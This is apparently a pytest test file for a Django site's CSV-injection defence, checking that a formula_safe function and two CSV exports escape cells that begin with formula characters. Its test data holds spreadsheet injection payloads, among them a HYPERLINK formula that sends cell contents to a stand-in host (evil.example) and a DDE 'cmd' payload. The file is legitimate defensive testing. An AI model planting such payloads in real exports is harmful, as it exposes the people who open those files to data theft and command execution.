"""``formula_safe``: OWASP's CSV-injection rule, one function for every CSV and XLSX perfsite writes;
and the command exports that go through it (issue 12, finding 1)."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.management import call_command

from perfsite.spreadsheet import csv_record, csv_row, formula_safe

HOSTILE_TEAM = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-c", "'-c"),
        # Real numbers as text stay numbers a spreadsheet can sum.
        ("-4.5", "-4.5"),
        ("-12", "-12"),
        ("-1,234.5", "-1,234.5"),
        ("-12.5%", "-12.5%"),
        ("-.5", "-.5"),
        # Ordinary text and non-text values are untouched.
        ("Percentage of referrals", "Percentage of referrals"),
        ("c", "c"),
        ("", ""),
        ("a=b", "a=b"),
        (Decimal("-4.5"), Decimal("-4.5")),
        (-3, -3),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_formula_safe(value, expected):
    assert formula_safe(value) == expected


def test_rows_and_records():
    assert csv_row(["=1", -1, "-1"]) == ["'=1", -1, "-1"]
    assert csv_record({"a": "@x", "b": Decimal("-2")}) == {"a": "'@x", "b": Decimal("-2")}


def test_caseload_summary_csv_quotes_a_hostile_team_name(db, capsys):
    from tests.caseloads.conftest import make_return, make_team, make_worker

    team = make_team(HOSTILE_TEAM)
    make_return(team, datetime.date(2017, 3, 1), [(make_worker(team), 25)])
    call_command("caseload_summary", "--month", "2017-03", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["team"] for row in rows] == ["All teams", "'" + HOSTILE_TEAM]


def test_audit_summary_csv_quotes_a_hostile_team_name(db, capsys):
    from audits.choices import Grade
    from tests.audits.conftest import Builder

    build = Builder()
    build.completed(Grade.GOOD, team=build.team(HOSTILE_TEAM))
    call_command("audit_summary", "--quarter", "2016-17-q4", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["team"] for row in rows] == ["", "'" + HOSTILE_TEAM]
